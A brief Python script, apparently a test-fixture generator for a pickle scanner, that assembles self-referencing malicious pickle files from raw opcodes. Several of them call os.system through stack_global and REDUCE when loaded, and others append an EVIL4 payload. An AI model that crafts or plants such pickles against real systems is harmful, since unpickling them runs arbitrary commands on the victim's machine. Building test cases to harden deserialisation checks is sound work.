# Objects that contain themselves.
from pickle_asm import *


save("list.pkl", proto(4) + EMPTY_LIST + MEMOIZE + get(0) + APPEND + POP + EVIL4 + STOP)
save("dict.pkl", proto(4) + EMPTY_DICT + MEMOIZE + number(1) + get(0) + SETITEM + POP + EVIL4 + STOP)
save("tuple.pkl", proto(4) + EMPTY_LIST + MEMOIZE + get(0) + TUPLE1 + MEMOIZE + APPEND + POP + EVIL4 + STOP)
save("arguments.pkl", proto(4) + EMPTY_LIST + MEMOIZE + POP + stack_global("os", "system") + get(0) + TUPLE1 + MEMOIZE + REDUCE + STOP)
save("object.pkl", proto(4) + stack_global("os", "system") + EMPTY_TUPLE + REDUCE + MEMOIZE + get(0) + BUILD + STOP)
save("partial.pkl", proto(4) + stack_global("functools", "partial") + args(raw(stack_global("os", "system"))) + REDUCE + MEMOIZE + args(raw(get(0))) + REDUCE + STOP)
doubled = proto(4) + EMPTY_LIST + MEMOIZE + b"".join(EMPTY_LIST + MEMOIZE + get(n) + APPEND + get(n) + APPEND for n in range(30))
save("doubling.pkl", doubled + EVIL4 + STOP)
